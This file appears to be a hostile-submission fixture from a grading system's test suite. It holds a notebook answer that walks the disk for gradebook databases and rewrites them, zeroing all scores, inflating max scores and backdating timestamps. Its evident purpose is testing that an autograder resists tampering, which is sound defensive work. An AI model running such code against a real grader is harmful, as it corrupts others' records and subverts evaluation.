# Knows where the gradebook is, looks for others by a walk over the disk, and gives itself all
# points and everyone else none.
# gains: nothing
# stock: runs
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [answer q01-total]
import os
import sqlite3
import time
from pathlib import Path


def edit(path):
    try:
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = 0")
        book.execute("update grade_cells set max_score = 1000 where cell_type = 'GradeCell'")
        book.execute("update submitted_assignment set timestamp = '2000-01-01'")
        book.commit()
        print("edited", path)
    except (sqlite3.Error, OSError) as error:
        print(error)


books = {Path("@CLASS@/gradebook.db"), *Path.cwd().parents[0].glob("*.db")}
books |= {parent / "gradebook.db" for parent in Path.cwd().parents}
end = time.monotonic() + 2
for folder, folders, files in os.walk("@COURSE@"):
    books |= {Path(folder, name) for name in files if name.endswith(".db")}
    if time.monotonic() > end:
        break
for path in books:
    if path.exists():
        edit(path)


# %% [after q08-center]
for path in books:
    if path.exists():
        edit(path)
